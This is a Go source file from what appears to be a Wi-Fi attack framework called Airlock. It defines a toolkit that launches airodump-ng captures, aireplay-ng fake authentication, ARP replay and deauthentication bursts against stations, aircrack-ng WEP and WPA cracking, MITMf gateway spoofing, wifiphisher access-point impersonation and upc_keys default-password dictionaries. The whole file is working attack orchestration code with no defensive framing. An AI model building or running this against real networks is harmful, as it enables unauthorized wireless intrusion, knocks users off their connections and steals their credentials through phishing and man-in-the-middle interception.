package attack

import (
	"context"
	"io"
	"net"
	"sync"

	"Airlock/internal/aircrack"
	"Airlock/internal/aireplay"
	"Airlock/internal/capture"
	"Airlock/internal/impersonation"
	"Airlock/internal/procman"
	"Airlock/internal/target"
	"Airlock/internal/topology"
	"Airlock/internal/wireless"
	"Airlock/pkg/helpers"
	"Airlock/pkg/models"
)

// Tool binaries, overridable through the tools section of the config.
const (
	Airmon      = "airmon-ng"
	Airodump    = "airodump-ng"
	Aireplay    = "aireplay-ng"
	Aircrack    = "aircrack-ng"
	Dumpcap     = "dumpcap"
	MITMf       = "mitmf"
	Wifiphisher = "wifiphisher"
	UPCKeys     = "upc_keys"
)

// Launcher starts the machines campaigns drive.
type Launcher interface {
	Airodump(filter *models.AccessPoint) (*capture.Airodump, error)
	Dumpcap(output string) (*capture.Capture, error)
	FakeAuth(t *target.Target) (*aireplay.FakeAuth, error)
	ArpReplay(t *target.Target) (*aireplay.ArpReplay, error)
	WEPCracker(capture string, t *target.Target) (*aircrack.Cracker, error)
	WPACracker(t *target.Target, dictionary string) (*aircrack.Cracker, error)
	Spoofer(gateway net.IP, display io.Writer) (*topology.Spoofer, error)
	Phisher(ap models.AccessPoint, display io.Writer) (*impersonation.Phisher, error)
	// Deauth runs count-frame bursts against each station in turn.
	Deauth(ctx context.Context, bssid string, stations []string, count int) error
	// Keygen writes the personalized dictionary of essid into dir.
	Keygen(ctx context.Context, essid, dir string) (string, error)
}

// Toolkit launches the real tools on one interface.
type Toolkit struct {
	cfg   models.Config
	iface *wireless.Interface

	mu        sync.Mutex
	deauthers map[int]*aireplay.Deauthenticator
}

func NewToolkit(cfg models.Config, iface *wireless.Interface) *Toolkit {
	return &Toolkit{cfg: cfg, iface: iface, deauthers: make(map[int]*aireplay.Deauthenticator)}
}

// Missing lists the tool binaries that cannot be found.
func (k *Toolkit) Missing(names ...string) []string {
	if len(names) == 0 {
		names = []string{Airmon, Airodump, Aireplay, Aircrack, Dumpcap, MITMf, Wifiphisher, UPCKeys}
	}
	bins := make([]string, len(names))
	for i, n := range names {
		bins[i] = k.cfg.Binary(n)
	}
	return helpers.MissingBinaries(bins...)
}

func (k *Toolkit) opts() procman.Options {
	return procman.Options{StopGrace: k.cfg.Timing.StopGrace}
}

func (k *Toolkit) Airodump(filter *models.AccessPoint) (*capture.Airodump, error) {
	return capture.StartAirodump(k.cfg.Binary(Airodump), k.iface.Name, filter, k.opts())
}

func (k *Toolkit) Dumpcap(output string) (*capture.Capture, error) {
	return capture.StartCapture(k.cfg.Binary(Dumpcap), k.iface.Name, output, k.opts())
}

func (k *Toolkit) FakeAuth(t *target.Target) (*aireplay.FakeAuth, error) {
	return aireplay.StartFakeAuth(k.cfg.Binary(Aireplay), k.iface, t, aireplay.DefaultFakeAuthOptions, k.opts())
}

func (k *Toolkit) ArpReplay(t *target.Target) (*aireplay.ArpReplay, error) {
	return aireplay.StartArpReplay(k.cfg.Binary(Aireplay), k.iface, t, k.opts())
}

func (k *Toolkit) WEPCracker(capturePath string, t *target.Target) (*aircrack.Cracker, error) {
	return aircrack.StartWEP(k.cfg.Binary(Aircrack), capturePath, t, k.opts())
}

func (k *Toolkit) WPACracker(t *target.Target, dictionary string) (*aircrack.Cracker, error) {
	return aircrack.StartWPA(k.cfg.Binary(Aircrack), t, dictionary, k.opts())
}

func (k *Toolkit) Spoofer(gateway net.IP, display io.Writer) (*topology.Spoofer, error) {
	return topology.StartSpoofer(k.cfg.Binary(MITMf), k.iface, gateway, display, k.opts())
}

func (k *Toolkit) Phisher(ap models.AccessPoint, display io.Writer) (*impersonation.Phisher, error) {
	return impersonation.StartPhisher(k.cfg.Binary(Wifiphisher), k.iface, ap, impersonation.DefaultTemplate, display, k.opts())
}

func (k *Toolkit) Deauth(ctx context.Context, bssid string, stations []string, count int) error {
	k.mu.Lock()
	d, ok := k.deauthers[count]
	if !ok {
		d = aireplay.NewDeauthenticator(k.cfg.Binary(Aireplay), k.iface, count, k.cfg.Timing.DeauthInterval, k.cfg.Timing.PollInterval)
		k.deauthers[count] = d
	}
	k.mu.Unlock()
	return d.Round(ctx, bssid, stations)
}

func (k *Toolkit) Keygen(ctx context.Context, essid, dir string) (string, error) {
	return aircrack.PersonalizedDictionary(ctx, k.cfg.Binary(UPCKeys), essid, dir, k.cfg.Timing.PollInterval)
}
